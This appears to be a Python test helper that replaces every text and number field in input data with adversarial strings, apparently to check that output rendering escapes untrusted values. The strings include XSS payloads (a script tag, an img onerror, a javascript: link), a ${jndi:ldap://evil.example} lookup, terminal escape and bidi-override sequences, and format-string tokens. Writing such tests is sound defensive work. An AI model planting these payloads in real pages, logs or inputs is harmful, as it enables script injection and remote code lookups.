"""Facts written by somebody else: every text in them replaced by one that would do harm where it is taken for more."""

import copy

MARK = "vpchk"
TEXTS = {
    "everything": (
        f"{MARK}\x1b[2J\x1b]0;{MARK}\x07\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\\u202eback\u202c\x9b31m\x00\x08\x7f"
        f"<script>document.title='{MARK}'</script>\"'><img src=http://evil.example/x onerror=alert(1)>"
        "</style></title></textarea>--><!--]]><![CDATA[&lt;&#x3c;"
        "`` ``` ```` | \\| ](http://evil.example) [a](http://evil.example) ![i](http://evil.example/i.png) <details open>"
        "<http://evil.example> http://evil.example www.evil.example mail@evil.example @all\n# heading\r\n- item\r* item\n"
        "| a | b |\n|---|---|\n```\n</code></pre>\n===\n\"} 1\nvpcheck_up 1\n# TYPE x gauge\n"
        "\u2028\u2029\ufeff\ufffe\u00ad\u200b\U000e0041\t\v\f\x85%n%s${jndi:ldap://evil.example}\\"
    ),
    "start of a line": "- # 1. > + * = ~ 1) [ ] | : `",
    "number": "1. [x](javascript:alert(1)) https://evil.example HTTPS://EVIL.EXAMPLE ftp://evil.example xmpp:a@b",
    "table": "a\\|b\\\\|c|d\\",
    "ticks": "`" * 40,
    "empty": "",
    "blank": " \u00a0\t ",
    "colon": ":colon",
    "long": "\u00e9" * 1_500,
    "words": "word " * 600,
    "wide": "\u6f22\u5b57\U0001f600 \u05d0\u05d1 a\u0301" * 40,
}
NUMBERS = [-1, 1e308, 2**64 - 1]


def shapes(value, wanted, path=()):
    """Where values of a type stand, list positions left out."""
    if isinstance(value, dict):
        found = [shape for key, held in value.items() for shape in shapes(held, wanted, (*path, key))]
    elif isinstance(value, list):
        found = [shape for held in value for shape in shapes(held, wanted, (*path, "[]"))]
    else:
        found = [path] if isinstance(value, wanted) and not isinstance(value, bool) else []
    return list(dict.fromkeys(found))


def changed(facts, paths, text):
    """The facts with this value at all of these places."""
    facts = copy.deepcopy(facts)
    for path in paths:
        put(facts, path, text)
    return facts


def put(value, path, text):
    step, rest = path[0], path[1:]
    places = range(len(value)) if step == "[]" and isinstance(value, list) else [step]
    for place in places:
        if isinstance(value, dict) and place not in value or isinstance(value, list) and not isinstance(place, int):
            continue
        if not rest:
            if isinstance(value[place], (str, int, float)) and not isinstance(value[place], bool):
                value[place] = text
        elif isinstance(value[place], (dict, list)):
            put(value[place], rest, text)


def called(path):
    return ".".join(path).replace(".[]", "[]")
